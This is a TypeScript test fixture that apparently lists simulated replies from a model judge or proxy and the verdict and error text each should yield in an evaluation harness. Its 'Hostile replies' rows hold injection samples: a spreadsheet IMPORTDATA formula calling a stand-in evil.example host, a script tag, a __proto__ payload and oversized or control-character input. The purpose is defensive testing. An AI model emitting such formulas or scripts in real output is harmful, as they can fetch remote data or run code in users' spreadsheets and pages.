/** What a judge of any quality, a proxy, or anything in between may send back, and what must become of the row. */

/** What the server sends: an HTTP reply, or nothing at all. */
export type Sent =
  | { readonly status: number; readonly body: string; readonly headers?: Readonly<Record<string, string>> }
  | { readonly failure: string };

interface JudgeReply {
  readonly what: string;
  /** The first reply, the second, …; the last one repeats. */
  readonly sent: readonly Sent[];
  /** The row's verdict, and its error or the reason of its score. */
  readonly verdict: 'pass' | 'fail' | 'error' | 'undecided';
  readonly says: RegExp;
  /** How often the judge is asked. */
  readonly asked: number;
}

/** A chat completion whose message is this. */
const completion = (content: unknown, more: object = {}): Sent => ({
  status: 200,
  body: JSON.stringify({
    id: 'c',
    object: 'chat.completion',
    model: 'm',
    choices: [{ index: 0, finish_reason: 'stop', message: { role: 'assistant', content }, ...more }],
    usage: { prompt_tokens: 100, completion_tokens: 20, total_tokens: 120 },
  }),
});

const verdict = (score: unknown, reason: unknown = 'It says the same.', type: unknown = 'text'): string =>
  JSON.stringify({ agent_answer: { evidence: 'It was S. Dakota', reason, answer_type: type, score } });
const GOOD = completion(verdict(1));
const html = (status: number): Sent => ({
  ...{ status, body: '<!DOCTYPE html><html><body>Please log in</body></html>' },
  headers: { 'Content-Type': 'text/html' },
});
const error = (status: number, message: string): Sent => ({
  ...{ status, body: JSON.stringify({ error: { message, type: 'error', code: null } }) },
});
/** A pass is asked for twice: the answer lacks the expected words. */
const row = (
  what: string,
  sent: Sent | readonly Sent[],
  verdict: JudgeReply['verdict'],
  says: RegExp,
  asked = verdict === 'pass' ? 2 : 1,
): JudgeReply => ({ what, sent: 'length' in sent ? sent : [sent], verdict, says, asked });

const deep = (depth: number): string => `${'['.repeat(depth)}${']'.repeat(depth)}`;

const FORM = /^the judge gave no usable verdict: the reply does not have the form that was asked for$/;
const EMPTY = /^the judge gave no usable verdict: the reply is empty$/;
const NO_JSON = /^the judge’s reply is not JSON \(after 3 attempts\)$/;

/** One of each kind: what a reply may look like in detail stands in test/judge/reply.test.ts and test/judge/providers.test.ts. */
export const JUDGE_REPLIES: readonly JudgeReply[] = [
  row('a verdict of 0', completion(verdict(0, 'It says something else.')), 'fail', /something else/),
  row('prose around a fence', completion(`So:\n\`\`\`json\n${verdict(1)}\n\`\`\``), 'pass', /says the same/),
  // Not a verdict.
  row('no JSON', completion('The answer is right.'), 'error', FORM, 2),
  row('null for a message', completion(null), 'error', EMPTY, 2),
  row('cut off in the middle', completion(verdict(1).slice(0, 40)), 'error', FORM, 2),
  row('a score of 0.5', completion(verdict(0.5)), 'error', FORM, 2),
  row(
    'two verdicts that differ',
    completion(`${verdict(1)}\n${verdict(0, 'No.')}`),
    'error',
    /^the judge gave no usable verdict: the reply holds several verdicts$/,
    2,
  ),
  row(
    'a prototype for a verdict',
    completion('{"__proto__":{"agent_answer":{"reason":"r","answer_type":"text","score":1}}}'),
    'error',
    FORM,
    2,
  ),
  row('JSON of 20,000 levels', completion(deep(20_000)), 'error', FORM, 2),
  row(
    'a refusal',
    completion(null, { message: { role: 'assistant', content: null, refusal: 'I cannot help with that.' } }),
    'error',
    /^the model refused to judge: I cannot help with that\.$/,
  ),
  row('a score of 2, then a verdict', [completion(verdict(2)), GOOD], 'pass', /says the same/, 3),
  row('a hang-up, then a verdict', [{ failure: 'Address unavailable: x' }, GOOD], 'pass', /says the same/, 3),
  // Not a model’s reply.
  row('a page with 200', html(200), 'error', NO_JSON, 3),
  row(
    'a redirect',
    { status: 302, body: '', headers: { Location: 'https://evil.example/' } },
    'error',
    /^the judge answered 302$/,
  ),
  row('nothing with 204', { status: 204, body: '' }, 'error', NO_JSON, 3),
  row('JSON that is not a completion', { status: 200, body: '{"ok":true}' }, 'error', EMPTY, 2),
  row(
    'HTTP 404',
    error(404, 'no such model'),
    'undecided',
    /^not asked: api\.openai\.com has no model m at this address \(404\); hint: /,
  ),
  row('HTTP 500', error(500, 'oops'), 'error', /^the judge answered 500: oops \(after 3 attempts\)$/, 3),
  // Hostile replies.
  row(
    'a formula for a reason',
    completion(verdict(1, '=IMPORTDATA("https://evil.example")')),
    'pass',
    /^=IMPORTDATA/,
  ),
  row('a script for a reason', completion(verdict(1, '<script>alert(1)</script>')), 'pass', /<script>/),
  row('a reason of 100,000 characters', completion(verdict(1, 'a'.repeat(100_000))), 'pass', /^a{100}/),
  row('control characters in a reason', completion(verdict(1, 'a\u0000b\u001b[31mc\u202ed')), 'pass', /./),
];
